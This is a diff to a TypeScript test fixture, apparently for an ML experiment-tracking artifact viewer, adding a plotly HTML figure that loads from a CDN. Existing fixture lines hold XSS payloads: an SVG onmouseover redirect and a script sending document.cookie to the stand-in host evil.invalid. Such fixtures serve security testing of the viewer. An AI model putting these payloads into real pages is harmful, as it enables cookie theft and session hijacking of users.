@@ -98,6 +98,23 @@ const HOSTILE_SVG =
   '  <rect width="64" height="64" fill="red" onmouseover="window.top.location=\'https://evil.invalid\'"/>\n' +
   '</svg>\n'
 
+/**
+ * A plotly figure as `mlflow.log_figure(fig, "x.html")` writes it (plotly 7.1's `to_html` with
+ * `include_plotlyjs="cdn"`): plotly.js comes from cdn.plot.ly, so it draws only where the viewer can
+ * reach that host. The real-usage run also logs a self-contained one (plotly bundled, 4.8 MB).
+ */
+const PLOTLY_CDN_FIGURE =
+  '<html>\n<head><meta charset="utf-8" /></head>\n<body>\n    <div>' +
+  '                        <script type="text/javascript">window.PlotlyConfig = {MathJaxConfig: \'local\'};</script>\n' +
+  '        <script charset="utf-8" src="https://cdn.plot.ly/plotly-4.1.1.min.js" crossorigin="anonymous"></script>' +
+  '                <div id="5c3e6f0a-figure" class="plotly-graph-div" style="height:100%; width:100%;"></div>' +
+  '            <script type="text/javascript">' +
+  '                window.PLOTLYENV=window.PLOTLYENV || {};' +
+  '                if (document.getElementById("5c3e6f0a-figure")) {' +
+  '                    Plotly.newPlot("5c3e6f0a-figure", [{"mode":"markers","x":[1.4,4.7,5.1],"y":[0.2,1.4,1.9],"type":"scatter"}],' +
+  ' {"title":{"text":"Predicted class by petal size"}}, {"responsive": true}' +
+  '                    )                };            </script>        </div>\n</body>\n</html>'
+
 const HOSTILE_HTML =
   '<!doctype html>\n<html><head><title>report</title>\n' +
   '<script>alert(document.cookie); new Image().src = "https://evil.invalid/steal?c=" + document.cookie;</script>\n' +
@@ -271,6 +288,7 @@ export const ARTIFACT_ZOO = {
     csv: 'data/metrics.csv',
     tsv: 'data/metrics.tsv',
     html: 'reports/report.html',
+    plotlyCdn: 'figures/plotly_cdn.html',
     pdf: 'reports/summary.pdf',
     reportText: 'reports/notes/summary.txt',
     binary: 'model/weights.bin',
@@ -331,6 +349,7 @@ export const ARTIFACT_ZOO_FILES: readonly WorldArtifactFile[] = [
     },
   },
   { path: P.html, content: { text: HOSTILE_HTML } },
+  { path: P.plotlyCdn, content: { text: PLOTLY_CDN_FIGURE } },
   { path: P.pdf, content: { text: minimalPdf() } },
   { path: P.reportText, content: { text: 'All good.\n' } },
   // Bytes 0..255 four times: not text, no known type.
